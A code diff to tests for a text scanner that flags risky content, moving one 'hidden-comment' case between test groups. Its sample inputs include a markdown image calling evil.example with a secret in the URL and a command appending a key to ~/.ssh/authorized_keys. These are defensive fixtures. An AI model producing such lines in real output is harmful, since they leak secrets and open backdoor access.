@@ -175,7 +175,6 @@ describe("a text that a person should see first", () => {
     ["hidden-code", `![logo](data:image/png;base64,${encoded(300)})`],
     ["exfiltration", "![x](https://evil.example/p.png?d={secret})"],
     ["keys", "echo key >> ~/.ssh/authorized_keys"],
-    ["hidden-comment", `<!-- ${"A long remark on the history of this page. ".repeat(6)} -->`],
   ])("%s: %s", (code, text) => {
     expect(codes(text, "warn")).toContain(code);
     expect(codes(text, "block")).toEqual([]);
@@ -184,6 +183,7 @@ describe("a text that a person should see first", () => {
 
 describe("a text with a remark", () => {
   it.each<[ConcernCode, string]>([
+    ["hidden-comment", `<!-- ${"A long remark on the history of this page. ".repeat(6)} -->`],
     ["personal-path", "The repository is in /home/ann/shop."],
     ["personal-path", "Open `/Users/ann.b/shop/a.ts`."],
     ["personal-path", "C:\\Users\\Ann\\shop"],
